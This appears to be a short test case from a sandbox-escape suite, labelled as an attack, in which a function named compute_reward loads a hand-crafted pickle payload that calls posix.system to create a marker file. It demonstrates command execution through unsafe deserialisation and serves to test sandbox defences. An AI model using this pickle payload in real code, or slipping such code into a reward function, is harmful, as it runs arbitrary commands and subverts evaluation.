# attack: pickle runs a call
# group: traversal
# wall: language; alone: seccomp (no fork, no exec)

def compute_reward(x):
    import pickle
    pickle.loads(b"cposix\nsystem\n(S'touch @FOLDER@/owned'\ntR.")
    return x, {}
